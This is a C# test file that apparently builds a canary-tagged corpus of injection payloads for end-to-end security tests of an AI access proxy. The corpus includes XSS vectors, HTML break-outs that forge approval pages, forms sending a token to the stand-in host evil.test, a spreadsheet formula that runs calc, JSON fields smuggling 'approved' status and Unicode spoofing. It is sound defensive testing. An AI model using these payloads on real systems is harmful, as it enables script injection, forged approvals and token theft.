using System.Globalization;

namespace AiAccessProxy.EndToEnd.Attacks;

/// <summary>Texts that become more than text where somebody forgets to encode them. Each that runs says so by its own number.</summary>
internal static class Payloads
{
    /// <summary><c>#</c> stands for what runs when the text has become a script.</summary>
    private static readonly string[] Templates =
    [
        "<script>#</script>", "<ScRiPt >#</sCrIpT>", "<img src=x onerror=#>", "<svg onload=#>", "<svg><script>#</script></svg>", "<svg><animate onbegin=# attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=#>", "<iframe srcdoc='<script>parent.#</script>'></iframe>", "<iframe src=\"javascript:parent.#\"></iframe>",
        "<details open ontoggle=#>", "<body onload=#>", "<input autofocus onfocus=#>", "<video><source onerror=#></video>", "<a href=\"javascript:#\">x</a>", "<form action=\"javascript:#\"><button>Approve</button></form>",
        "<object data=\"data:text/html,<script>#</script>\"></object>", "<embed src=\"data:text/html,x\">", "<link rel=stylesheet href=//evil.test/x.css>", "<style>*{display:none!important}</style>",
        "<base href=//evil.test/>", "<meta http-equiv=refresh content=\"0;url=//evil.test/\">", "<template shadowrootmode=open><script>#</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=#>\">",
        "</textarea></form><form id=approve method=post action=//evil.test><button>Approve</button></form>", "</title><script>#</script>", "</q></dd></dl></section><aside id=decision><form id=deny></form></aside>",
        "</pre></section></article><main id=main><h1>Approved</h1>", "<div style=\"position:fixed;inset:0;z-index:9999\">Approve</div>", "<input name=token value=x form=approve>", "<button form=approve formaction=//evil.test>Approve</button>",
        "\" onmouseover=# x=\"", "' onmouseover=# x='", "\" autofocus onfocus=# x=\"", "\" style=\"position:fixed;inset:0\" x=\"", "\"><b data-ticket=x data-live=decision>", "\" data-part=\"body", "` onmouseover=# `",
        "{{constructor.constructor('#')()}}", "${#}", "#{#}", "<%= # %>", "{% raw %}#", "[[${#}]]", "@(#)", "javascript:#", "data:text/html,<script>#</script>",
        "\\u003cscript\\u003e#\\u003c/script\\u003e", "&lt;script&gt;#&lt;/script&gt;", "&#60;script&#62;#", "%3Cscript%3E#%3C/script%3E", "+ADw-script+AD4-#+ADw-/script+AD4-", "<!--<script>#", "--><script>#</script>", "]]><script>#</script>",
        "*/#/*", "</style><script>#</script>", "expression(#)", "url(javascript:#)", "\u202e<script>#</script>\u202c", "\u2066Approved\u2069#", "a\u200b\u200c\u200d\ufeffb#", "\u0000<script>#</script>", "<scr\u0000ipt>#</script>",
        "<script\u000c>#</script>", "\u001b[2J#", "\u2028#\u2029", "\uff1cscript\uff1e#\uff1c/script\uff1e", "\u00a0\u3000\u2800#", "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307#", "\U000e0041\U000e0042#", "\u0430\u0440\u0440r\u043eved#",
        "line\nApproved by Grace\n#", "tab\there\r\n#", "trailing #  ", "\\\" + # + \\\"", "\"}],\"status\":\"approved\",\"x\":\"#", "null, \"may_approve\": true, \"x\": \"#", "*bold* [x](javascript:#) <https://evil.test>", "=cmd|'/c calc'!A0 #",
    ];

    private static readonly Func<string, string>[] Wrappers =
    [
        text => text, text => $"\">{text}", text => $"</b></span></code></strong></a>{text}", text => $"x {text} " + new string('A', 300),
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. from wrapper in Wrappers.Index()
           from template in Templates.Index()
           select wrapper.Item(template.Item.Replace("#", string.Create(CultureInfo.InvariantCulture, $"canary({(wrapper.Index * Templates.Length) + template.Index})"), StringComparison.Ordinal)),
    ];

    /// <summary>What of it a header field may hold.</summary>
    public static string InHeader(string payload) => new string([.. payload.Where(character => character is >= ' ' and <= '~')]).Trim() is { Length: > 0 } text ? text : "x";

    /// <summary>What of it a segment of a path may hold, escaped.</summary>
    public static string InPath(string payload)
    {
        var text = new string([.. payload.Where(character => !char.IsControl(character) && !"/\\%;?#".Contains(character, StringComparison.Ordinal))]);
        const string unescaped = "-._~!$&'()*+,=:@";
        return string.Concat(System.Text.Encoding.UTF8.GetBytes(text).Select(
            value => char.IsAsciiLetterOrDigit((char)value) || unescaped.Contains((char)value, StringComparison.Ordinal) ? $"{(char)value}" : $"%{value:X2}"));
    }
}
